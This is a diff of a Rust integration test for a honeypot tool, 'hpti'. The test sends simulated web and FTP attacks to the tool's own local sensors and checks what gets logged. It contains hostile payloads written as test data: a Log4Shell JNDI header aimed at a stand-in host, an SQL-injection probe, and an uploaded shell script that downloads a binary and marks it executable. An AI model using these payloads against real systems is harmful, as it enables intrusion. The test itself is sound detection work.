@@ -446,13 +446,15 @@ fn run_as_root_binds_a_low_port_then_drops_to_the_configured_user() {
     );
 }
 
-/// The HTTP sensor through `hpti run`: a WordPress login from curl, a Basic-auth login
-/// on a router persona (by virtual host), an sqlmap probe and a Log4Shell header. After a
-/// clean shutdown `hpti query credentials` lists both logins and `hpti query sessions`
-/// the HTTP connections; the stored requests carry their labels.
+/// The HTTP and FTP sensors through `hpti run` (issue 15's "done when"): a WordPress
+/// login from curl, a Basic-auth login on a router persona (by virtual host), an sqlmap
+/// probe, a Log4Shell header and an lftp `put`. After a clean shutdown `hpti query
+/// credentials` lists the three logins, `hpti query commands` the two attacks with their
+/// labels, `hpti query downloads` the uploaded file by its SHA-256 and name, and
+/// `hpti query sessions` the connections.
 #[test]
-fn run_then_web_attacks_then_query_shows_logins_and_labels() {
-    if !require_tool("curl") {
+fn run_then_web_and_ftp_attacks_then_query_shows_logins_commands_and_uploads() {
+    if !require_tool("curl") || !require_tool("lftp") {
         return;
     }
     let dir = tempfile::tempdir().unwrap();
@@ -462,7 +464,8 @@ fn run_then_web_attacks_then_query_shows_logins_and_labels() {
         format!(
             "[data]\ndir = {:?}\n\n[metrics]\nenabled = false\n\n\
              [sensors.web]\ntype = \"http\"\nlisten = \"127.0.0.1:0\"\napp = \"wordpress\"\n\
-             apps = [{{ app = \"router\", host = \"192.168.0.1\" }}]\n",
+             apps = [{{ app = \"router\", host = \"192.168.0.1\" }}]\n\n\
+             [sensors.ftp]\ntype = \"ftp\"\nlisten = \"127.0.0.1:0\"\n",
             dir.path().join("data")
         ),
     )
@@ -475,16 +478,21 @@ fn run_then_web_attacks_then_query_shows_logins_and_labels() {
         .spawn()
         .unwrap();
     let mut log = BufReader::new(child.stderr.take().unwrap()).lines();
-    let web = loop {
-        let line = log.next().expect("hpti run logs its listener").unwrap();
-        if line.contains("HTTP honeypot listening") {
-            break line
-                .split("listening on ")
+    let (mut web, mut ftp) = (None, None);
+    while web.is_none() || ftp.is_none() {
+        let line = log.next().expect("hpti run logs its listeners").unwrap();
+        let address = || {
+            line.split("listening on ")
                 .nth(1)
                 .map(|rest| rest.split_whitespace().next().unwrap().to_owned())
-                .unwrap();
+        };
+        if line.contains("HTTP honeypot listening") {
+            web = address();
+        } else if line.contains("FTP honeypot listening") {
+            ftp = address();
         }
-    };
+    }
+    let (web, ftp) = (web.unwrap(), ftp.unwrap());
     let drain = std::thread::spawn(move || log.map_while(Result::ok).count());
     let curl = |args: &[&str]| {
         let output = Command::new("curl")
@@ -525,6 +533,26 @@ fn run_then_web_attacks_then_query_shows_logins_and_labels() {
         "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/aWQ=}",
         &format!("http://{web}/"),
     ]);
+    // An FTP upload, as a bot's script drives lftp.
+    let payload = b"#!/bin/sh\ncd /tmp && wget http://203.0.113.9/x86 && chmod +x x86\n";
+    std::fs::write(dir.path().join("miner.sh"), payload).unwrap();
+    let (host, port) = ftp.rsplit_once(':').unwrap();
+    let lftp = Command::new("lftp")
+        .args([
+            "-c",
+            &format!(
+                "set net:max-retries 1; set net:timeout 10; set ftp:ssl-allow no; \
+                 open -u root,hunter2 -p {port} {host}; put miner.sh; bye"
+            ),
+        ])
+        .current_dir(dir.path())
+        .output()
+        .unwrap();
+    assert!(
+        lftp.status.success(),
+        "lftp: {}",
+        String::from_utf8_lossy(&lftp.stderr)
+    );
 
     std::thread::sleep(Duration::from_millis(300));
     assert!(
@@ -554,20 +582,81 @@ fn run_then_web_attacks_then_query_shows_logins_and_labels() {
         pairs,
         vec![
             ("admin".to_owned(), "Summer2024!".to_owned()),
-            ("admin".to_owned(), "password1".to_owned())
+            ("admin".to_owned(), "password1".to_owned()),
+            ("root".to_owned(), "hunter2".to_owned()),
         ],
         "{credentials}"
     );
-    let sessions = query(&config, "sessions");
+
+    // The two attacks are commands, with what the classifier said of them; the plain
+    // requests (the logins) are not.
+    let commands = query(&config, "commands");
+    let labels_of = |command: &str| -> Option<Vec<String>> {
+        commands.as_array().unwrap().iter().find_map(|c| {
+            (c["command"] == command).then(|| {
+                c["labels"]
+                    .as_array()
+                    .unwrap()
+                    .iter()
+                    .map(|l| l.as_str().unwrap().to_owned())
+                    .collect()
+            })
+        })
+    };
+    assert_eq!(
+        labels_of("GET /?p=1%27%20AND%203617%3D3617%20AND%20%27a%27%3D%27a"),
+        Some(vec!["scanner:sqlmap".to_owned(), "sqli".to_owned()]),
+        "{commands}"
+    );
     assert!(
-        sessions
-            .as_array()
-            .unwrap()
-            .iter()
-            .all(|s| s["protocol"] == "http"),
+        labels_of("GET /").is_some_and(|labels| labels.contains(&"log4shell".to_owned())),
+        "{commands}"
+    );
+    assert_eq!(labels_of("POST /wp-login.php"), None, "{commands}");
+    // The FTP session's commands are there too, without labels.
+    assert_eq!(labels_of("STOR miner.sh"), Some(vec![]), "{commands}");
+
+    // The upload is a captured file: its SHA-256, the name it was given, who sent it.
+    let downloads = query(&config, "downloads");
+    let sha256 = format!("{:x}", <sha2::Sha256 as sha2::Digest>::digest(payload));
+    let upload = downloads
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|d| d["sha256"] == sha256.as_str())
+        .unwrap_or_else(|| panic!("the upload is listed: {downloads}"));
+    assert_eq!(upload["count"], 1, "{upload}");
+    assert_eq!(upload["uploads"], 1, "{upload}");
+    assert_eq!(upload["size"], payload.len(), "{upload}");
+    // The path in the fake file system: root's home, where the login put it.
+    assert_eq!(
+        upload["filenames"],
+        serde_json::json!(["/root/miner.sh"]),
+        "{upload}"
+    );
+    assert_eq!(
+        upload["src_ips"],
+        serde_json::json!(["127.0.0.1"]),
+        "{upload}"
+    );
+
+    let sessions = query(&config, "sessions");
+    let protocols: Vec<&str> = sessions
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["protocol"].as_str().unwrap())
+        .collect();
+    assert_eq!(
+        protocols.iter().filter(|p| **p == "http").count(),
+        4,
         "{sessions}"
     );
-    assert_eq!(sessions.as_array().unwrap().len(), 4, "{sessions}");
+    assert_eq!(
+        protocols.iter().filter(|p| **p == "ftp").count(),
+        1,
+        "{sessions}"
+    );
 
     // The labels, as stored.
     let runtime = tokio::runtime::Builder::new_current_thread()
